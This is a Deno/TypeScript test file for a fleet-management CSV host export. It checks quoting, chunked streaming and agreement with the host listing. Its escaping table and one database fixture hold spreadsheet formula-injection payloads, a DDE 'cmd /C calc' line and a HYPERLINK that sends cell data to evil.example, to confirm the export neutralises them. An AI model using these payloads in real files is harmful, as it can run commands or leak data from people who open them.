import assert from "node:assert/strict";
import { testDatabase } from "../../testing/database.ts";
import { addSceneHost, fleetScene } from "../../testing/fleet_scene.ts";
import { AppError } from "../errors.ts";
import { BYTE_ORDER_MARK, cell, exportHosts, line } from "./host_export.ts";
import { listHosts } from "./list_hosts.ts";

Deno.test("cells: nothing is a formula, and every cell can be read back", () => {
  const table: [string, string][] = [
    ["", ""],
    ["web-01", "web-01"],
    ["a-b=c@d+e", "a-b=c@d+e"],
    ["a,b", '"a,b"'],
    ["a;b", '"a;b"'],
    ['say "hi"', '"say ""hi"""'],
    ["two\nlines", '"two\nlines"'],
    ["two\r\nlines", '"two\r\nlines"'],
    ["=1+1", `"'=1+1"`],
    ["+1", `"'+1"`],
    ["-1", `"'-1"`],
    ["@SUM(A1)", `"'@SUM(A1)"`],
    ["\t=1", `"'\t=1"`],
    ["\r=1", `"'\r=1"`],
    ["\n=1", `"'\n=1"`],
    ["  =1", `"'  =1"`],
    ["\u00a0=1", `"'\u00a0=1"`],
    ["＝1", `"'＝1"`],
    ["＠x", `"'＠x"`],
    ["=cmd|' /C calc'!A0\"", `"'=cmd|' /C calc'!A0"""`],
    ['=HYPERLINK("http://evil.example?x="&A1,"x")', `"'=HYPERLINK(""http://evil.example?x=""&A1,""x"")"`],
    ["'=1", `"'=1"`],
    [" x", '" x"'],
    ["Łódź 😀", "Łódź 😀"],
  ];
  for (const [value, expected] of table) assert.equal(cell(value), expected, JSON.stringify(value));
  assert.equal(line(["a", "b,c", ""]), 'a,"b,c",\r\n');
});

/** The records of a file as RFC 4180 says. */
function parse(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  const pattern = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  while (pattern.lastIndex < text.length) {
    const match = pattern.exec(text);
    assert.ok(match, `no cell at ${pattern.lastIndex || "the end"}`);
    record.push(match[1]?.replaceAll('""', '"') ?? match[2]);
    if (match[3] === ",") continue;
    records.push(record);
    record = [];
  }
  return records;
}

async function read(pieces: AsyncIterable<string>): Promise<{ text: string; pieces: number }> {
  let text = "";
  let count = 0;
  for await (const piece of pieces) {
    text += piece;
    count++;
  }
  return { text, pieces: count };
}

Deno.test("the file says what the list says, for the same viewer, filter and order", async () => {
  await using database = await testDatabase();
  const scene = await fleetScene(database);
  const { users, groups, hosts } = scene;
  const evil = `=cmd|' /C calc'!A0","x`;
  await database.sql`
    update hosts set display_name = ${evil}, tags = ${["a;b", "-x"]}::text[], health = 'degraded',
      health_reason = ${"two\nlines"} where id = ${hosts.alpha}`;
  for (const viewer of Object.values(users)) {
    for (
      const query of [
        {},
        { sort: "-name" as const },
        { status: "security" as const, sort: "-security" as const },
        { group: groups.a },
        { search: "calc" },
        { health: "unreachable" as const },
      ]
    ) {
      const what = `${viewer.role} ${JSON.stringify(query)}`;
      const { text } = await read(exportHosts(database.web, viewer.id, query));
      assert.ok(text.startsWith(BYTE_ORDER_MARK), what);
      const [head, ...records] = parse(text.slice(1));
      const { items } = await listHosts(database.web, viewer.id, query);
      const id = head.indexOf("id");
      assert.deepEqual(records.map((record) => record[id]), items.map((host) => host.id), what);
      for (const record of records) {
        assert.equal(record.length, head.length, what);
        for (const value of record) assert.doesNotMatch(value, /^\s*[=+\-@]/, what);
      }
    }
  }
  const [head, record] = parse(
    (await read(exportHosts(database.web, users.admin.id, { search: "calc" }))).text.slice(1),
  );
  const host = Object.fromEntries(head.map((name, index) => [name, record[index]]));
  assert.equal(host.name, `'${evil}`);
  assert.equal(host.tags, "a;b; -x");
  assert.equal(host.health_reason, "two\nlines");
  assert.equal(host.groups, "group-alpha");
  assert.match(host.last_seen, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$/);
});

Deno.test("a large fleet comes in pieces, each host once", async () => {
  await using database = await testDatabase();
  const scene = await fleetScene(database);
  for (let number = 0; number < 3; number++) await addSceneHost(database, scene.clock, `more-${number}`);
  await database.sql`
    insert into hosts (id, fqdn, address, port, tls_name, source, health_since, created_at)
    select gen_random_uuid(), 'h' || n % 7 || '-' || n, ('10.9.' || n / 256 || '.' || n % 256)::inet, 12443, 'x', 'manual',
      app_now(), app_now() from generate_series(1, 1193) n`;
  await database.sql`insert into host_patch_data (host_id) select id from hosts on conflict do nothing`;
  await database.sql`insert into host_counters (host_id) select id from hosts on conflict do nothing`;
  const { text, pieces } = await read(exportHosts(database.web, scene.users.admin.id, { sort: "-os" }));
  const [head, ...records] = parse(text.slice(1));
  assert.equal(records.length, 1_200);
  assert.equal(pieces, 3);
  assert.equal(new Set(records.map((record) => record[head.indexOf("id")])).size, 1_200);
});

Deno.test("a filter that is none is refused before anything is written", async () => {
  await using database = await testDatabase();
  const { users } = await fleetScene(database);
  const pieces = exportHosts(database.web, users.admin.id, { health: "blue" as never });
  await assert.rejects(pieces.next(), (thrown) => thrown instanceof AppError && thrown.code === "validation_failed");
});
